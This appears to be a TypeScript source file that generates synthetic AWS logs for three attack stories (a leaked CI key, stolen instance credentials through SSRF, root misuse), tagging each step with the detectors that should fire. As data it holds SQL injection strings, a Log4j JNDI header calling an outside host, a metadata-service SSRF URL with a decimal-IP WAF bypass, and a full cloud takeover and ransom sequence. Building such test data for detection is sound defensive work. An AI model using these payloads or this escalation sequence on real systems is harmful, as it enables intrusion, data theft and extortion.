/** What goes wrong in the sample week: three stories, each step with the detectors that should speak. */
import { HEX, LETTERS_AND_DIGITS } from '../support/random.ts';
import {
  accessKey,
  type Caller,
  type Json,
  rootIdentity,
  s3Additional,
  s3Resources,
  uniqueId,
} from '../support/records.ts';
import { consoleLogin, Diary, getObject, type Happening, terminated } from './ordinary.ts';
import type { Request } from './s3-access.ts';
import { toolGreeting, type Visit } from './waf.ts';
import {
  atConsole,
  BROWSER,
  buckets,
  CLI,
  DAY,
  DEVELOPMENT,
  developmentServers,
  fleet,
  HOME_REGION,
  HOUR,
  inRole,
  kmsKey,
  MINUTE,
  machines,
  PRODUCTION,
  people,
  roles,
  SECOND_REGION,
  STRANGER,
  secrets,
  type User,
  WEEK_START,
  webServers,
  withKey,
} from './world.ts';

export interface Step {
  readonly at: number;
  readonly who: string;
  readonly what: string;
  /** Ids of the detectors that should raise an alert over this step. */
  readonly detectors: readonly string[];
}

export interface Story {
  readonly title: string;
  readonly text: string;
  readonly steps: readonly Step[];
  readonly happenings: readonly Happening[];
  /** Requests of which only S3's access log tells. */
  readonly requests?: readonly Request[];
  /** What the web ACL before the shop saw. */
  readonly visits?: readonly Visit[];
}

const FRIDAY = WEEK_START + 4 * DAY;
const SATURDAY = WEEK_START + 5 * DAY;
const clock = (day: number, time: string): number => {
  const [hour = 0, minute = 0] = time.split(':').map(Number);
  return day + hour * HOUR + minute * MINUTE;
};

/** While it is off, production's own trail writes nothing; the trail of the organisation goes on. */
export const TRAIL_STOPPED = clock(FRIDAY, '21:02');
export const TRAIL_STARTED = clock(FRIDAY, '22:15');
const TRAIL = `arn:aws:cloudtrail:${HOME_REGION}:${PRODUCTION}:trail/production-trail`;

const UNUSED_REGION = 'sa-east-1';
const KALI = 'aws-cli/2.33.2 md/awscrt#0.29.1 ua/2.1 os/linux#6.17.10+kali-amd64 md/arch#x86_64 lang/python#3.13.11';

/** Writes a story: each step's records begin at its time. */
class Teller {
  readonly diary: Diary;
  readonly steps: Step[] = [];

  constructor(label: string) {
    this.diary = new Diary(label);
  }

  step(at: number, who: string, what: string, detectors: readonly string[], tell: (at: number) => void): void {
    this.steps.push({ at, who, what, detectors });
    tell(at);
  }
}

const refused = (caller: Caller, action: string): { code: string; message: string } => ({
  code: action.startsWith('ec2:') ? 'Client.UnauthorizedOperation' : 'AccessDenied',
  message: `User: ${String(caller.identity['arn'])} is not authorized to perform: ${action} because no identity-based policy allows the ${action} action`,
});

/** What a thief asks first; the key may do the ones that are `allowed`. */
const RECONNAISSANCE = {
  allowed: [
    'iam:ListUsers',
    'iam:ListRoles',
    'iam:ListGroups',
    'iam:ListAccessKeys',
    'iam:ListAttachedUserPolicies',
    'iam:GetAccountSummary',
    'ec2:DescribeInstances',
    'ec2:DescribeSecurityGroups',
    'ec2:DescribeSnapshots',
    'ec2:DescribeVpcs',
    'ec2:DescribeKeyPairs',
    's3:ListBuckets',
    's3:GetBucketLocation',
    'ecs:ListClusters',
    'ecs:ListServices',
    'lambda:ListFunctions20150331',
    'secretsmanager:ListSecrets',
    'cloudtrail:DescribeTrails',
    'cloudtrail:GetTrailStatus',
    'guardduty:ListDetectors',
    'config:DescribeConfigurationRecorders',
    'kms:ListKeys',
  ],
  refused: [
    'organizations:DescribeOrganization',
    'organizations:ListAccounts',
    'account:GetContactInformation',
    'ce:GetCostAndUsage',
    'rds:DescribeDBInstances',
    'dynamodb:ListTables',
    'eks:ListClusters',
    'ssm:DescribeParameters',
    'sns:ListTopics',
    'sqs:ListQueues',
    'ses:GetSendQuota',
    'route53:ListHostedZones',
    'cloudformation:ListStacks',
    'bedrock:ListFoundationModels',
    'sagemaker:ListNotebookInstances',
    'redshift:DescribeClusters',
  ],
} as const;

const REGIONS = [
  'us-east-2',
  'us-west-1',
  'us-west-2',
  'ca-central-1',
  'eu-west-2',
  'eu-west-3',
  'eu-central-1',
  'eu-north-1',
  'ap-south-1',
  'ap-southeast-1',
  'ap-southeast-2',
  'ap-northeast-1',
] as const;

const ADMINISTRATOR = 'arn:aws:iam::aws:policy/AdministratorAccess';
const EVERYTHING = JSON.stringify({
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }],
});

function leakedKey(): Story {
  const teller = new Teller('a leaked key');
  const { diary } = teller;
  const { random } = diary;
  const thief = withKey(machines.release, '203.0.113.77', KALI);
  const call = (
    caller: Caller,
    action: string,
    at: number,
    request: Json | null = null,
    response: Json | null = null,
  ) => diary.add(caller, { action, at, region: HOME_REGION, request, response });
  const refuse = (action: string, at: number, region: string = HOME_REGION) =>
    diary.add(thief, { action, at, region, error: refused(thief, action) });

  teller.step(
    clock(FRIDAY, '19:42'),
    'ci-release, from 203.0.113.77',
    'asks who it is, then everything it can think of: 39 different reads in three minutes, 64 calls refused',
    [
      'recon-burst',
      'question-in-many-regions',
      'denied-call-spike',
      'denied-calls-above-usual',
      'distinct-denied-calls',
      'attack-tool-user-agent',
    ],
    (at) => {
      call(thief, 'sts:GetCallerIdentity', at);
      for (const [index, action] of RECONNAISSANCE.allowed.entries()) call(thief, action, at + 5000 + index * 4000);
      for (const [index, action] of RECONNAISSANCE.refused.entries()) {
        for (let attempt = 0; attempt < 4; attempt++) refuse(action, at + 95_000 + index * 5000 + attempt * 900);
      }
    },
  );

  teller.step(
    clock(FRIDAY, '19:50'),
    'ci-release, from 203.0.113.77',
    `looks for machines in twelve regions, all refused, and gets an answer in ${UNUSED_REGION}`,
    [],
    (at) => {
      for (const [index, region] of REGIONS.entries()) refuse('ec2:DescribeInstances', at + index * 3000, region);
      diary.add(thief, {
        action: 'ec2:DescribeInstances',
        at: at + 60_000,
        region: UNUSED_REGION,
        request: { maxResults: 1000, instancesSet: {}, filterSet: {} },
      });
    },
  );

  teller.step(
    clock(FRIDAY, '20:05'),
    'ci-release, from 203.0.113.77',
    'makes a second key for mateo_jackson',
    ['access-key-for-another-user'],
    (at) =>
      call(
        thief,
        'iam:CreateAccessKey',
        at,
        { userName: people.mateo.name },
        {
          accessKey: {
            userName: people.mateo.name,
            accessKeyId: accessKey('AKIA', random),
            status: 'Active',
            createDate: 'Mar 6, 2026, 8:05:00 PM',
          },
        },
      ),
  );

  const temporary: User = {
    account: PRODUCTION,
    name: 'support-temp',
    id: uniqueId('AIDA', random),
    key: accessKey('AKIA', random),
    address: '203.0.113.77',
  };
  teller.step(
    clock(FRIDAY, '20:08'),
    'ci-release, from 203.0.113.77',
    'creates the user support-temp with a key, a password and AdministratorAccess, and a policy that allows everything',
    [
      'iam-user-created',
      'user-created-with-key',
      'login-profile-for-another-user',
      'admin-policy-attached',
      'admin-inline-policy',
    ],
    (at) => {
      call(
        thief,
        'iam:CreateUser',
        at,
        { userName: temporary.name },
        {
          user: {
            path: '/',
            userName: temporary.name,
            userId: temporary.id,
            arn: `arn:aws:iam::${PRODUCTION}:user/${temporary.name}`,
          },
        },
      );
      call(
        thief,
        'iam:CreateAccessKey',
        at + 20_000,
        { userName: temporary.name },
        { accessKey: { userName: temporary.name, accessKeyId: temporary.key, status: 'Active' } },
      );
      call(
        thief,
        'iam:CreateLoginProfile',
        at + 35_000,
        { userName: temporary.name, passwordResetRequired: false },
        { loginProfile: { userName: temporary.name, passwordResetRequired: false } },
      );
      call(thief, 'iam:AttachUserPolicy', at + 50_000, { userName: temporary.name, policyArn: ADMINISTRATOR });
      call(thief, 'iam:PutUserPolicy', at + 65_000, {
        userName: temporary.name,
        policyName: 'support',
        policyDocument: EVERYTHING,
      });
    },
  );

  teller.step(
    clock(FRIDAY, '20:12'),
    'ci-release, from 203.0.113.77',
    'lets the deployment policy allow everything, puts a forgotten version of another one in force, and lets anybody take the role ci-deploy',
    ['admin-managed-policy', 'policy-version-swapped', 'role-trust-opened'],
    (at) => {
      const policyArn = `arn:aws:iam::${PRODUCTION}:policy/deployment`;
      call(thief, 'iam:CreatePolicyVersion', at, { policyArn, policyDocument: EVERYTHING, setAsDefault: true });
      call(thief, 'iam:SetDefaultPolicyVersion', at + 25_000, {
        policyArn: `arn:aws:iam::${PRODUCTION}:policy/support-limits`,
        versionId: 'v1',
      });
      call(thief, 'iam:UpdateAssumeRolePolicy', at + 40_000, {
        roleName: roles.deploy.name,
        policyDocument: JSON.stringify({
          Version: '2012-10-17',
          Statement: [{ Effect: 'Allow', Principal: { AWS: '*' }, Action: 'sts:AssumeRole' }],
        }),
      });
    },
  );

  teller.step(
    clock(FRIDAY, '20:16'),
    'ci-release, from 203.0.113.77',
    'takes the MFA device off richard_roe',
    ['mfa-device-removed'],
    (at) => {
      call(thief, 'iam:DeactivateMFADevice', at, {
        userName: people.richard.name,
        serialNumber: `arn:aws:iam::${PRODUCTION}:mfa/${people.richard.name}`,
      });
    },
  );

  teller.step(
    clock(FRIDAY, '20:20'),
    'richard_roe, from 203.0.113.90',
    'fails to sign in at the console 16 times in six minutes, then gets in, without MFA',
    ['console-login-brute-force', 'console-login-after-failures', 'console-login-without-mfa'],
    (at) => {
      for (let attempt = 0; attempt < 16; attempt++) {
        consoleLogin(diary, people.richard, at + attempt * 22_000, {
          success: false,
          mfa: false,
          address: '203.0.113.90',
        });
      }
      consoleLogin(diary, people.richard, at + 7 * MINUTE, { success: true, mfa: false, address: '203.0.113.90' });
    },
  );

  const intruder: Caller = { ...atConsole(people.richard, clock(FRIDAY, '20:27'), false), address: '203.0.113.90' };
  teller.step(
    clock(FRIDAY, '20:41'),
    'richard_roe, from 203.0.113.90',
    'switches off what could see him: GuardDuty, Config and the flow logs',
    ['guardduty-disabled', 'config-recorder-stopped', 'flow-logs-deleted', 'console-change-first-seen'],
    (at) => {
      call(intruder, 'guardduty:DeleteDetector', at, { detectorId: '12abc34d567e8fa901bc2d34e56789f0' });
      call(intruder, 'config:StopConfigurationRecorder', at + 50_000, { configurationRecorderName: 'default' });
      call(
        intruder,
        'ec2:DeleteFlowLogs',
        at + 90_000,
        { DeleteFlowLogsRequest: { FlowLogId: { tag: 1, content: 'fl-0a1b2c3d4e5f67890' } } },
        { DeleteFlowLogsResponse: { unsuccessful: '', requestId: random.uuid() } },
      );
    },
  );

  teller.step(
    clock(FRIDAY, '20:55'),
    'richard_roe, from 203.0.113.90',
    'weakens the trail: one region, no validation, no management events',
    ['trail-weakened', 'event-selectors-cut'],
    (at) => {
      call(
        intruder,
        'cloudtrail:UpdateTrail',
        at,
        { name: TRAIL, isMultiRegionTrail: false, enableLogFileValidation: false, includeGlobalServiceEvents: false },
        { name: 'production-trail', isMultiRegionTrail: false, logFileValidationEnabled: false, trailARN: TRAIL },
      );
      const eventSelectors = [{ readWriteType: 'ReadOnly', includeManagementEvents: false, dataResources: [] }];
      call(
        intruder,
        'cloudtrail:PutEventSelectors',
        at + 100_000,
        { trailName: TRAIL, eventSelectors },
        { trailARN: TRAIL, eventSelectors },
      );
    },
  );

  teller.step(
    TRAIL_STOPPED,
    'richard_roe, from 203.0.113.90',
    "stops production's trail; what follows until 22:15 stands only in the organisation's trail",
    ['trail-logging-stopped'],
    (at) => call(intruder, 'cloudtrail:StopLogging', at - 1000, { name: TRAIL }),
  );

  teller.step(
    clock(FRIDAY, '21:06'),
    'richard_roe, from 203.0.113.90',
    'opens SSH to the world on two security groups, in both shapes that this call has',
    ['security-group-opened-to-world'],
    (at) => {
      call(
        intruder,
        'ec2:AuthorizeSecurityGroupIngress',
        at,
        {
          groupId: 'sg-0123456789abcdef0',
          ipPermissions: {
            items: [
              {
                ipProtocol: 'tcp',
                fromPort: 22,
                toPort: 22,
                groups: {},
                ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] },
                ipv6Ranges: {},
                prefixListIds: {},
              },
            ],
          },
        },
        { requestId: random.uuid(), _return: true },
      );
      call(
        intruder,
        'ec2:AuthorizeSecurityGroupIngress',
        at + 45_000,
        {
          groupId: 'sg-0fedcba9876543210',
          cidrIp: '0.0.0.0/0',
          ipProtocol: 'tcp',
          fromPort: 22,
          toPort: 22,
          ipPermissions: {},
        },
        { requestId: random.uuid(), _return: true },
      );
    },
  );

  teller.step(
    clock(FRIDAY, '21:11'),
    'support-temp, from 203.0.113.77',
    `starts eight GPU machines in ${UNUSED_REGION}, where nobody ever ran anything`,
    ['region-first-used', 'gpu-instances-launched'],
    (at) => {
      diary.add(withKey(temporary, '203.0.113.77', KALI), {
        action: 'ec2:RunInstances',
        at,
        region: UNUSED_REGION,
        request: {
          instancesSet: { items: [{ imageId: 'ami-0123456789abcdef0', minCount: 8, maxCount: 8 }] },
          instanceType: 'g5.48xlarge',
          monitoring: { enabled: false },
        },
        response: {
          requestId: random.uuid(),
          reservationId: `r-0${random.text(HEX, 16)}`,
          ownerId: PRODUCTION,
          instancesSet: { items: Array.from({ length: 8 }, () => ({ instanceId: `i-0${random.text(HEX, 16)}` })) },
        },
      });
    },
  );

  teller.step(
    clock(FRIDAY, '21:16'),
    'richard_roe, from 203.0.113.90',
    `takes the public access block off ${buckets.exports} and makes it public by policy and by ACL`,
    ['public-access-block-removed', 'bucket-policy-public', 'bucket-acl-public', 'bucket-requester-first-seen'],
    (at) => {
      const bucket = { bucketName: buckets.exports, Host: `${buckets.exports}.s3.${HOME_REGION}.amazonaws.com` };
      const s3 = (action: string, time: number, request: Json) =>
        diary.add(intruder, {
          action,
          at: time,
          region: HOME_REGION,
          request,
          additional: s3Additional(random, 312, 0),
        });
      s3('s3:DeleteBucketPublicAccessBlock', at, { ...bucket, publicAccessBlock: '' });
      s3('s3:PutBucketPolicy', at + 30_000, {
        ...bucket,
        policy: '',
        bucketPolicy: {
          Version: '2012-10-17',
          Statement: [
            { Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: `arn:aws:s3:::${buckets.exports}/*` },
          ],
        },
      });
      s3('s3:PutBucketAcl', at + 60_000, {
        ...bucket,
        acl: '',
        AccessControlPolicy: {
          AccessControlList: {
            Grant: {
              Grantee: {
                'xsi:type': 'Group',
                URI: 'http://acs.amazonaws.com/groups/global/AllUsers',
                'xmlns:xsi': 'http://www.w3.org/2001/XMLSchema-instance',
              },
              Permission: 'READ',
            },
          },
          Owner: { ID: '79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be' },
          xmlns: 'http://s3.amazonaws.com/doc/2006-03-01/',
        },
      });
    },
  );

  teller.step(
    clock(FRIDAY, '21:22'),
    'support-temp, from 203.0.113.77',
    `shares a disk snapshot and a database snapshot with account ${STRANGER}, and an image with everybody`,
    ['snapshot-shared', 'database-snapshot-shared', 'image-shared'],
    (at) => {
      const caller = withKey(temporary, '203.0.113.77', KALI);
      call(
        caller,
        'ec2:ModifySnapshotAttribute',
        at,
        {
          snapshotId: 'snap-00a1b2c3d4e5f6789',
          createVolumePermission: { add: { items: [{ userId: STRANGER }] } },
          attributeType: 'CREATE_VOLUME_PERMISSION',
        },
        { requestId: random.uuid(), _return: true },
      );
      call(caller, 'rds:ModifyDBSnapshotAttribute', at + 30_000, {
        dBSnapshotIdentifier: 'shop-final',
        attributeName: 'restore',
        valuesToAdd: [STRANGER],
      });
      call(
        caller,
        'ec2:ModifyImageAttribute',
        at + 55_000,
        {
          imageId: 'ami-0fedcba9876543210',
          launchPermission: { add: { items: [{ group: 'all' }] } },
          attributeType: 'launchPermission',
        },
        { requestId: random.uuid(), _return: true },
      );
    },
  );

  teller.step(
    clock(FRIDAY, '21:28'),
    'support-temp, from 203.0.113.77',
    `reads ${secrets.length} secrets in four minutes`,
    ['secrets-read-in-bulk'],
    (at) => {
      const caller = withKey(temporary, '203.0.113.77', KALI);
      for (const [index, secretId] of secrets.entries()) {
        call(caller, 'secretsmanager:GetSecretValue', at + index * 8000, { secretId });
      }
    },
  );

  teller.step(
    clock(FRIDAY, '21:40'),
    'support-temp, from 203.0.113.77',
    `writes 40 backups over with a key of his own (SSE-C) and leaves a note: ransom`,
    ['put-object-with-customer-key', 'ransom-note-uploaded', 'bucket-requester-first-seen'],
    (at) => {
      const caller = withKey(temporary, '203.0.113.77', KALI);
      const put = (time: number, key: string, encryption: string) =>
        diary.add(caller, {
          action: 's3:PutObject',
          at: time,
          region: HOME_REGION,
          request: {
            bucketName: buckets.backups,
            Host: `${buckets.backups}.s3.${HOME_REGION}.amazonaws.com`,
            ...(encryption === 'SSE_C' ? { 'x-amz-server-side-encryption-customer-algorithm': 'AES256' } : {}),
            key,
          },
          response:
            encryption === 'SSE_C'
              ? { 'x-amz-server-side-encryption-customer-algorithm': 'AES256' }
              : { 'x-amz-server-side-encryption': 'AES256' },
          additional: s3Additional(random, 65_536, 0, encryption),
          resources: s3Resources(PRODUCTION, buckets.backups, key),
        });
      for (let part = 0; part < 40; part++) {
        put(at + part * 4000, `files/2026/03/0${1 + (part % 6)}/part-${Math.floor(part / 6)}.zst`, 'SSE_C');
      }
      put(at + 170_000, 'HOW-TO-RECOVER-YOUR-FILES.txt', 'Default_SSE_S3');
    },
  );

  teller.step(
    clock(FRIDAY, '21:50'),
    'richard_roe, from 203.0.113.90',
    `terminates ${fleet.length} machines in one call; he never did before`,
    [
      'instance-terminated',
      'mass-instance-termination',
      'instance-terminated-without-mfa',
      'instance-terminated-first-time-caller',
    ],
    (at) =>
      call(
        intruder,
        'ec2:TerminateInstances',
        at,
        { instancesSet: { items: fleet.map((instanceId) => ({ instanceId })) } },
        terminated(fleet, random),
      ),
  );

  teller.step(
    clock(FRIDAY, '21:56'),
    'richard_roe, from 203.0.113.90',
    'disables the key of the backups and schedules its deletion in seven days',
    ['kms-key-deletion-scheduled'],
    (at) => {
      const keyId = kmsKey(PRODUCTION, HOME_REGION);
      const resources = [{ accountId: PRODUCTION, type: 'AWS::KMS::Key', ARN: keyId }];
      diary.add(intruder, { action: 'kms:DisableKey', at, region: HOME_REGION, request: { keyId }, resources });
      diary.add(intruder, {
        action: 'kms:ScheduleKeyDeletion',
        at: at + 20_000,
        region: HOME_REGION,
        request: { keyId, pendingWindowInDays: 7 },
        response: { keyId, deletionDate: 'Mar 13, 2026, 12:00:00 AM', keyState: 'PendingDeletion' },
        resources,
      });
    },
  );

  const requests: Request[] = [];
  teller.step(
    clock(FRIDAY, '21:18'),
    'nobody in particular, from 203.0.113.201',
    `finds ${buckets.exports} open, lists it and fetches 40 exports and a file of passwords; only the access log of the bucket tells`,
    [
      'anonymous-bucket-listing',
      'anonymous-read-of-private-bucket',
      'bucket-opened-then-read',
      'secret-file-read-anonymously',
    ],
    (at) => {
      const anonymous = {
        bucket: buckets.exports,
        address: '203.0.113.201',
        requester: null,
        requestId: null,
        agent: 'curl/8.18.0',
      };
      const get = (time: number, key: string, bytes: number): void => {
        requests.push({
          ...anonymous,
          at: time,
          operation: 'REST.GET.OBJECT',
          key,
          uri: `GET /${key} HTTP/1.1`,
          status: 200,
          sent: bytes,
          size: bytes,
        });
      };
      for (let page = 0; page < 3; page++) {
        requests.push({
          ...anonymous,
          at: at + page * 2000,
          operation: 'REST.GET.BUCKET',
          key: null,
          uri: 'GET /?list-type=2&max-keys=1000 HTTP/1.1',
          status: 200,
          sent: 214_880,
        });
      }
      for (let item = 0; item < 40; item++)
        get(at + 20_000 + item * 4000, `customers/2026/02/part-${String(item).padStart(3, '0')}.parquet`, 7_340_032);
      get(at + 190_000, 'setup/.env.production', 912);
      // After the block is back.
      for (let turn = 0; turn < 3; turn++) {
        requests.push({
          ...anonymous,
          at: clock(FRIDAY, '22:40') + turn * 5000,
          operation: 'REST.GET.BUCKET',
          key: null,
          uri: 'GET /?list-type=2&max-keys=1000 HTTP/1.1',
          status: 403,
          error: 'AccessDenied',
          sent: 243,
        });
      }
    },
  );

  const onCall = atConsole(people.mary, clock(FRIDAY, '22:11'));
  teller.step(
    TRAIL_STARTED,
    'mary_major, from 198.51.100.21',
    'is called in, starts the trail again, cancels the deletion, shuts the keys and removes support-temp',
    ['console-change-first-seen'],
    (at) => {
      consoleLogin(diary, people.mary, clock(FRIDAY, '22:11'), { success: true, mfa: true });
      call(onCall, 'cloudtrail:StartLogging', at, { name: TRAIL });
      call(onCall, 'kms:CancelKeyDeletion', at + MINUTE, { keyId: kmsKey(PRODUCTION, HOME_REGION) });
      for (const [index, owner] of [machines.release, temporary].entries()) {
        call(onCall, 'iam:UpdateAccessKey', at + 2 * MINUTE + index * 20_000, {
          userName: owner.name,
          accessKeyId: owner.key,
          status: 'Inactive',
        });
      }
      call(onCall, 'iam:DetachUserPolicy', at + 4 * MINUTE, { userName: temporary.name, policyArn: ADMINISTRATOR });
      call(onCall, 'iam:DeleteUser', at + 6 * MINUTE, { userName: temporary.name });
      diary.add(onCall, {
        action: 's3:PutBucketPublicAccessBlock',
        at: at + 8 * MINUTE,
        region: HOME_REGION,
        request: {
          bucketName: buckets.exports,
          publicAccessBlock: '',
          PublicAccessBlockConfiguration: {
            BlockPublicAcls: true,
            BlockPublicPolicy: true,
            IgnorePublicAcls: true,
            RestrictPublicBuckets: true,
          },
        },
        additional: s3Additional(random, 290, 0),
      });
    },
  );

  return {
    requests,
    title: 'A leaked key',
    text: "The key of ci-release ends up in a public repository on a Friday evening. Two hours later the shop is down, its backups are locked, and its customers are in somebody else's hands.",
    steps: teller.steps,
    happenings: diary.happenings,
  };
}

function borrowedCredentials(): Story {
  const teller = new Teller('borrowed credentials');
  const { diary } = teller;
  const server = webServers[1]?.id ?? '';
  const at = clock(SATURDAY, '07:05');
  const address = '203.0.113.140';
  const borrower = inRole(roles.web, server, at, { address, agent: CLI, ec2: true });
  const visits: Visit[] = [];
  const visitor = {
    address,
    country: 'NL',
    agent: 'python-requests/2.32.5',
    fingerprint: toolGreeting('requests'),
  };
  const METADATA = '169.254.169.254/latest/meta-data/iam/security-credentials/';

  teller.step(
    clock(SATURDAY, '06:20'),
    `a stranger, from ${address}`,
    'asks the shop for 64 pages that it does not have; the web ACL blocks them',
    ['blocked-path-scan'],
    (begin) => {
      for (let page = 0; page < 64; page++) {
        visits.push({
          ...visitor,
          at: begin + page * 3500,
          method: 'GET',
          uri: `/${['admin', 'old', 'test', 'backup'][page % 4]}/${['config', 'index', 'status', 'dump'][(page >> 2) % 4]}-${page >> 4}.php`,
          blockedBy: 'AWS-AWSManagedRulesCommonRuleSet',
        });
      }
    },
  );
  teller.step(
    clock(SATURDAY, '06:31'),
    `a stranger, from ${address}`,
    'tries seven times to get at the database through the search, which a rule only counts, and once at Log4j',
    ['sql-injection-counted', 'known-bad-input-counted', 'exploit-string-allowed'],
    (begin) => {
      for (let turn = 0; turn < 7; turn++) {
        visits.push({
          ...visitor,
          at: begin + turn * 20_000,
          method: 'GET',
          uri: '/search',
          args: `q=lamp%27%20OR%20${turn}=${turn}--`,
          counted: {
            group: 'AWSManagedRulesSQLiRuleSet',
            rule: 'SQLi_QUERYARGUMENTS',
            label: 'awswaf:managed:aws:sql-database:SQLi_QueryArguments',
          },
        });
      }
      visits.push({
        ...visitor,
        at: begin + 4 * MINUTE,
        method: 'GET',
        uri: '/search',
        args: 'q=lamp',
        headers: { 'x-api-version': '${jndi:ldap://203.0.113.140/a}' },
        counted: {
          group: 'AWSManagedRulesKnownBadInputsRuleSet',
          rule: 'Log4JRCE_HEADER',
          label: 'awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header',
        },
      });
    },
  );
  teller.step(
    clock(SATURDAY, '06:48'),
    `a stranger, from ${address}`,
    "lets the shop's preview of links fetch the metadata service: blocked 14 times, let pass once the address is written as a number",
    ['allowed-after-blocks'],
    (begin) => {
      for (let turn = 0; turn < 16; turn++) {
        const isBlocked = turn < 14;
        visits.push({
          ...visitor,
          at: begin + turn * 25_000,
          method: 'POST',
          uri: '/preview',
          args: isBlocked
            ? `url=http://${METADATA}`
            : `url=http://${METADATA.replace('169.254.169.254', '2852039166')}`,
          ...(isBlocked && { blockedBy: 'AWS-AWSManagedRulesCommonRuleSet' }),
        });
      }
    },
  );

  teller.step(
    at,
    `web-app-instance (${server}), from ${address}`,
    'credentials of a web server, fetched through a hole in the shop, are used from outside: 30 customer exports go',
    ['instance-credentials-used-elsewhere', 'bucket-requester-first-seen'],
    (begin) => {
      diary.add(borrower, { action: 'sts:GetCallerIdentity', at: begin, region: HOME_REGION });
      diary.add(borrower, {
        action: 's3:ListBuckets',
        at: begin + 15_000,
        region: HOME_REGION,
        additional: s3Additional(diary.random, 0, 1980),
      });
      for (let item = 0; item < 30; item++) {
        const key = `customers/2026/02/part-${String(item).padStart(3, '0')}.parquet`;
        getObject(diary, borrower, begin + MINUTE + item * 6000, buckets.exports, key, 7_340_032);
      }
    },
  );

  return {
    title: 'Borrowed credentials',
    text: "A web server of the shop hands its role's credentials to whoever asks its metadata service the right way. The logs of the web ACL tell how somebody got there.",
    visits,
    steps: teller.steps,
    happenings: diary.happenings,
  };
}

function shortcut(): Story {
  const teller = new Teller('a shortcut');
  const { diary } = teller;
  const { random } = diary;
  const address = '198.51.100.33';
  const begin = clock(SATURDAY, '10:02');
  const signedIn: Caller = {
    identity: rootIdentity(DEVELOPMENT, accessKey('ASIA', random), { created: begin, mfa: false }),
    address,
    agent: BROWSER,
    account: DEVELOPMENT,
    console: true,
  };
  const rootKey = accessKey('AKIA', random);
  const byKey: Caller = { identity: rootIdentity(DEVELOPMENT, rootKey), address, agent: CLI, account: DEVELOPMENT };

  teller.step(
    begin,
    `root of ${DEVELOPMENT}, from ${address}`,
    'somebody of the team signs in as root, without MFA',
    ['root-console-login'],
    (at) =>
      diary.add(
        { ...signedIn, identity: rootIdentity(DEVELOPMENT, '') },
        {
          action: 'signin:ConsoleLogin',
          at,
          region: HOME_REGION,
          eventType: 'AwsConsoleSignIn',
          additional: {
            LoginTo: 'https://console.aws.amazon.com/console/home',
            MobileVersion: 'No',
            MFAUsed: 'No',
          },
          extra: { responseElements: { ConsoleLogin: 'Success' } },
        },
      ),
  );

  teller.step(
    begin + 4 * MINUTE,
    `root of ${DEVELOPMENT}, from ${address}`,
    'makes an access key for root',
    ['root-credentials-changed', 'root-call-of-its-own', 'console-change-first-seen'],
    (at) =>
      diary.add(signedIn, {
        action: 'iam:CreateAccessKey',
        at,
        region: HOME_REGION,
        request: null,
        response: { accessKey: { accessKeyId: rootKey, status: 'Active', createDate: 'Mar 7, 2026, 10:06:00 AM' } },
      }),
  );

  teller.step(
    begin + 12 * MINUTE,
    `root of ${DEVELOPMENT}, by its key, from ${address}`,
    'terminates one machine in eu-west-1 with that key',
    [
      'root-access-key-use',
      'instance-terminated',
      'instance-terminated-without-mfa',
      'instance-terminated-first-time-caller',
    ],
    (at) => {
      const machine = developmentServers[1] ?? '';
      diary.add(byKey, {
        action: 'ec2:TerminateInstances',
        at,
        region: SECOND_REGION,
        request: { instancesSet: { items: [{ instanceId: machine }] } },
        response: terminated([machine], random),
      });
    },
  );

  teller.step(
    begin + 20 * MINUTE,
    `root of ${DEVELOPMENT}, by its key, from ${address}`,
    `uploads a dump to ${buckets.sandbox} and asks for AES256, less than the KMS key that is the bucket's default`,
    ['put-object-without-required-encryption'],
    (at) => {
      const key = 'dumps/customers.sql';
      diary.add(byKey, {
        action: 's3:PutObject',
        at,
        region: HOME_REGION,
        request: {
          bucketName: buckets.sandbox,
          Host: `${buckets.sandbox}.s3.${HOME_REGION}.amazonaws.com`,
          'x-amz-server-side-encryption': 'AES256',
          key,
        },
        response: {
          'x-amz-server-side-encryption': 'AES256',
          'x-amz-version-id': random.text(LETTERS_AND_DIGITS, 32),
        },
        additional: s3Additional(random, 48_234_496, 0, 'SSE_S3'),
        resources: s3Resources(DEVELOPMENT, buckets.sandbox, key),
      });
    },
  );

  return {
    title: 'A shortcut',
    text: 'On Saturday somebody of the development team is in a hurry and works as root.',
    steps: teller.steps,
    happenings: diary.happenings,
  };
}

export const stories = (): readonly Story[] => [leakedKey(), borrowedCredentials(), shortcut()];
